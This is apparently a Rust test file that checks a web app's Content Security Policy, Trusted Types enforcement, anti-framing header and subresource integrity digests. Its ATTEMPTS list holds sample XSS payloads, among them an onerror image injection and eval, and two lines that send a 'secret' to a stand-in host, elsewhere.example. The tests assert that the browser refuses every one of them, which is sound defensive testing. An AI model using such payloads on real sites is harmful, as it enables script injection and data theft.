//! The policy of the site as a host sets it: it holds, what meets it is noticed here, and each file is the one that was built.
//!
//! That the app keeps to it is not tried here but in every journey: all of them run under it, and all end with a look at
//! the console and at each request (`record.rs`).

use std::path::PathBuf;

use crate::browser::Browser;
use crate::engine::Engine;
use crate::page::heading;
use crate::site::{Site, given, integrity};

/// What an injected script would try, and the word by which the browser's refusal is known.
const ATTEMPTS: [(&str, &str); 7] = [
    (
        "const s = document.createElement('script'); s.textContent = 'window.broken = 1'; document.head.append(s)",
        "TrustedScript",
    ),
    ("document.body.innerHTML = '<img src=x onerror=\"window.broken = 2\">'", "TrustedHTML"),
    ("document.body.setAttribute('onclick', 'window.broken = 3')", "TrustedScript"),
    ("window.eval('window.broken = 4')", "TrustedScript"),
    ("fetch('https://elsewhere.example/?secret').catch(() => {})", "connect-src"),
    ("new Image().src = 'https://elsewhere.example/?secret'", "img-src"),
    (
        "const s = document.createElement('style'); s.textContent = '* { color: red }'; document.head.append(s)",
        "style-src",
    ),
];

#[tokio::test]
async fn what_the_policy_forbids_is_refused_and_noticed() {
    let site = Site::open().await;
    let page = Browser::start(&site).await;
    page.open("#/").await;
    page.sees(heading("Begin")).await;
    page.settle().await;
    for (attempt, word) in ATTEMPTS {
        // The other engines tell the host, by the name of the rule.
        let by_rule = page.engine != Engine::Chromium && word.starts_with("Trusted");
        let word = if by_rule { "require-trusted-types-for" } else { word };
        // Later, when it is the page's own doing: to what the driver runs, the browser allows more.
        let script = format!(
            "setTimeout(() => {{ try {{ {attempt} }} catch (error) {{ console.error(error.message) }} }}); return true"
        );
        let _: bool = page.script(&script, &[]).await;
        page.until(&format!("a complaint about {word}"), async || {
            Ok(page.complaints().await.iter().any(|complaint| complaint.contains(word)).then_some(()))
        })
        .await;
    }
    let broken: Option<u32> = page.script("return window.broken ?? null", &[]).await;
    assert_eq!(broken, None);
    page.let_go(); // with whatever it still has to say of this
}

#[tokio::test]
async fn the_host_says_that_no_site_may_frame_it() {
    let site = Site::open().await;
    let page = Browser::start(&site).await;
    page.open("#/").await;
    page.sees(heading("Begin")).await;
    let found: Option<String> = page
        .script("return fetch('./').then(answer => answer.headers.get('content-security-policy'))", &[])
        .await;
    assert!(found.is_some_and(|policy| policy.contains("frame-ancestors 'none'")));
    page.leave().await;
}

#[test]
fn each_file_of_the_program_is_named_with_its_digest() {
    let dist = PathBuf::from(given("WINDROSE_DIST"));
    let page = std::fs::read_to_string(dist.join("index.html")).expect("the site has a page");
    let tags = page.split('<').filter(|tag| {
        tag.starts_with("script")
            || ["rel=\"stylesheet\"", "rel=\"modulepreload\"", "rel=\"wasm\""]
                .iter()
                .any(|kind| tag.contains(kind))
    });
    let mut kinds = [".css", ".js", ".wasm"].map(|kind| (kind, 0));
    for tag in tags {
        let attribute = |name: &str| {
            let (_, rest) = tag.split_once(&format!(" {name}=\""))?;
            rest.split_once('"').map(|(value, _)| value)
        };
        let path = attribute("src").or_else(|| attribute("href")).expect("it is a file");
        let bytes = std::fs::read(dist.join(path)).expect("the file is there");
        assert_eq!(attribute("integrity"), Some(integrity(&bytes).as_str()), "{path}");
        for (kind, number) in &mut kinds {
            *number += usize::from(path.ends_with(*kind));
        }
    }
    assert!(kinds.iter().all(|(_, number)| *number > 0), "{kinds:?}");
}
